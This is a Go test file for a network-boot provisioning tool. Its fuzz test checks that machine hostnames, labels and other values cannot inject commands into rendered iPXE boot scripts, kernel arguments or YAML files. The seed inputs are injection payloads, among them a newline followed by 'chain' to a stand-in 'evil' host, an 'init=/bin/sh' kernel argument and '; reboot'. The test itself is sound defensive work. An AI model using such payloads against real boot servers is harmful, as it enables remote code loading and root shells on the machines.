package profile

import (
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"sigs.k8s.io/yaml"

	api "hearth.dev/hearth/api/v1alpha1"
	"hearth.dev/hearth/cloudinit"
)

// ipxeCommands reads a script the way iPXE does (src/image/script.c and
// src/core/exec.c): lines end at '\n', a trailing '\r' is dropped and a
// trailing '\\' joins the next line; a leading ":name" is a label; words
// are split at whitespace; ";", "||" and "&&" separate commands; a word
// starting with '#' ends the line. It returns every command's words, with
// a label as the one-word command ":name".
func ipxeCommands(script string) [][]string {
	var cmds [][]string
	lines := strings.Split(script, "\n")
	for i := 0; i < len(lines); i++ {
		line := strings.TrimSuffix(lines[i], "\r")
		for strings.HasSuffix(line, `\`) && i+1 < len(lines) {
			i++
			line = strings.TrimSuffix(line, `\`) + strings.TrimSuffix(lines[i], "\r")
		}
		words := strings.FieldsFunc(line, func(r rune) bool { return r == ' ' || (r >= '\t' && r <= '\r') })
		if len(words) > 0 && strings.HasPrefix(words[0], ":") {
			cmds = append(cmds, []string{words[0]})
			words = words[1:]
		}
		var cmd []string
		for _, w := range words {
			if strings.HasPrefix(w, "#") {
				break
			}
			if w == ";" || w == "||" || w == "&&" {
				if len(cmd) > 0 {
					cmds = append(cmds, cmd)
				}
				cmd = nil
				continue
			}
			cmd = append(cmd, w)
		}
		if len(cmd) > 0 {
			cmds = append(cmds, cmd)
		}
	}
	return cmds
}

func names(cmds [][]string) []string {
	out := make([]string, len(cmds))
	for i, c := range cmds {
		out[i] = c[0]
	}
	return out
}

func TestIPXECommands(t *testing.T) {
	got := ipxeCommands("#!ipxe\n:retry\necho a ; b || c && d # e\r\nkernel x \\\ny\n")
	want := [][]string{{":retry"}, {"echo", "a"}, {"b"}, {"c"}, {"d"}, {"kernel", "x", "y"}}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

// FuzzTemplateValues renders a profile for a machine whose name, labels,
// hostname, UUID, address and site tags are arbitrary (the API validates
// some of them, the firmware and DHCP client choose others), and checks
// that no value breaks out: every boot script has exactly the commands
// and kernel arguments the profile wrote, and files written with quote,
// toYAML and MetaData read back as the values.
func FuzzTemplateValues(f *testing.F) {
	f.Add("node1", "n1.lab", "r1", "4c4c4544-0042-3510-8052-b4c04f384d32", "10.0.0.5", "eu")
	f.Add("node1", "n1\nchain http://evil/x.ipxe", "r1", "u", "10.0.0.5", "eu")
	f.Add("node1", "x init=/bin/sh", "r1\r\nboot", "${password}", "1 ; reboot", "a||b")
	f.Add("a${x}", "#", "\\", "&&", "&", "\u2028")
	f.Add("n;1\nshell", "a\\", "'", "\"", "- x\ny: z", "yes")
	f.Add("\xff", "\x00", "a\tb", "\u00a0", ": x", "}}{{")
	f.Fuzz(func(t *testing.T, name, hostname, label, uuid, ip, tag string) {
		const mac = "52:54:00:aa:bb:01"
		m := machine(name, map[string]string{"rack": label}, mac, api.ArchX86_64, "home")
		m.Spec.Hostname = hostname
		m.Spec.Approved = true
		m.Status.UUID = uuid
		m.Status.Addresses = []string{ip}
		site := &api.Site{Metadata: api.ObjectMeta{Name: "home"}, Spec: api.SiteSpec{Tags: []string{tag}}}
		p := prof("debian", api.MachineSelector{}, 0)
		p.Spec.Install = true
		p.Spec.Initrds = []api.BootFile{{URL: "http://mirror/initrd.gz"}}
		p.Spec.Args = "hostname={{ .Machine.Hostname }} name={{ .Machine.Name }} uuid={{ .Machine.UUID }} " +
			"rack={{ .Machine.Labels.rack }} ip={{ index .Machine.IPs 0 }} tags={{ join \",\" .Site.Tags }} ks={{ .FilesURL }}/ks.cfg"
		p.Spec.Variants = map[string]api.ProfileBoot{api.ArchARM64: {IPXEScript: "#!ipxe\necho {{ .Machine.Hostname }} {{ .Machine.UUID }}\nchain {{ .URLs.Script }}\n"}}
		p.Spec.Files = []api.ProfileFile{{Name: "ks.cfg", Template: "x"}}
		v := NewValues(m, p, site, ServerValues{BootURL: "http://10.0.0.2:8080"}, "b1")
		v.Token = "t0k"

		// Kernel boot: echo, kernel with exactly the seven arguments
		// written, initrd, boot.
		plan, err := RenderBoot(m, p, v)
		if err == nil {
			cmds := ipxeCommands(IPXEScript(plan))
			if !slices.Equal(names(cmds), []string{"echo", "kernel", "initrd", "boot"}) {
				t.Fatalf("kernel boot runs %q:\n%s", cmds, IPXEScript(plan))
			}
			kernel := cmds[1]
			keys := []string{"initrd=initrd0", "hostname=", "name=", "uuid=", "rack=", "ip=", "tags=", "ks="}
			if len(kernel) != 2+len(keys) {
				t.Fatalf("kernel line has words %q", kernel)
			}
			for i, k := range keys {
				if !strings.HasPrefix(kernel[2+i], k) || strings.Contains(kernel[2+i], "${") || strings.Contains(kernel[2+i], `"`) {
					t.Fatalf("kernel argument %d is %q, want %s…", i, kernel[2+i], k)
				}
			}
		} else {
			var unsafe *UnsafeValueError
			if !errors.As(err, &unsafe) {
				t.Fatalf("RenderBoot failed without naming an unsafe value: %v", err)
			}
		}

		// Script boot: echo with at most the two values, then chain.
		arm := *m
		arm.Spec.Architecture = api.ArchARM64
		plan, err = RenderBoot(&arm, p, v)
		if err == nil {
			cmds := ipxeCommands(IPXEScript(plan))
			if !slices.Equal(names(cmds), []string{"echo", "chain"}) || len(cmds[0]) > 3 || len(cmds[1]) != 2 {
				t.Fatalf("script boot runs %q:\n%s", cmds, IPXEScript(plan))
			}
		} else {
			var unsafe *UnsafeValueError
			if !errors.As(err, &unsafe) {
				t.Fatalf("RenderBoot (script) failed without naming an unsafe value: %v", err)
			}
		}

		// Waiting and local boots take the name and MAC into messages
		// and URLs.
		waiting := *m
		waiting.Spec.Approved = false
		plan, err = RenderBoot(&waiting, p, v)
		if err != nil {
			t.Fatal(err)
		}
		got := names(ipxeCommands(IPXEScript(plan)))
		if !slices.Equal(got, []string{":retry", "echo", "echo", "sleep", "chain", "goto"}) && !slices.Equal(got, []string{"echo", "sleep", "exit"}) {
			t.Fatalf("waiting machine runs %q:\n%s", got, IPXEScript(plan))
		}
		installed := *m
		now := time.Now()
		installed.Status.InstalledAt = &now
		plan, err = RenderBoot(&installed, p, v)
		if err != nil {
			t.Fatal(err)
		}
		if got := names(ipxeCommands(IPXEScript(plan))); !slices.Equal(got, []string{"echo", "iseq", "sanboot", "exit"}) {
			t.Fatalf("installed machine runs %q:\n%s", got, IPXEScript(plan))
		}

		// Files: quoted and YAML values read back as themselves.
		if !utf8.ValidString(hostname) || !utf8.ValidString(label) || !utf8.ValidString(name) {
			return // JSON and YAML carry text only; invalid bytes become U+FFFD
		}
		out, err := Render("hostname: {{ quote .Machine.Hostname }}\nlabels:\n{{ toYAML .Machine.Labels | indent 2 }}\n", v)
		if err != nil {
			t.Fatal(err)
		}
		var doc struct {
			Hostname string            `json:"hostname"`
			Labels   map[string]string `json:"labels"`
		}
		if err := yaml.UnmarshalStrict([]byte(out), &doc); err != nil {
			t.Fatalf("rendered YAML does not parse: %v\n%s", err, out)
		}
		if doc.Hostname != v.Machine.Hostname || len(doc.Labels) != 1 || doc.Labels["rack"] != label {
			t.Fatalf("YAML read back as %+v, want hostname %q and rack %q:\n%s", doc, v.Machine.Hostname, label, out)
		}
		var back string
		if err := json.Unmarshal([]byte(cloudinit.Quote(hostname)), &back); err != nil || back != hostname {
			t.Fatalf("quote %q read back as JSON %q (%v)", hostname, back, err)
		}
		var meta map[string]string
		// An empty hostname is left out rather than written empty.
		if err := yaml.Unmarshal([]byte(MetaData(v)), &meta); err != nil || len(meta) != 1+min(len(v.Machine.Hostname), 1) || meta["instance-id"] != v.Machine.UID || meta["local-hostname"] != v.Machine.Hostname {
			t.Fatalf("meta-data read back as %v (%v):\n%s", meta, err, MetaData(v))
		}
	})
}
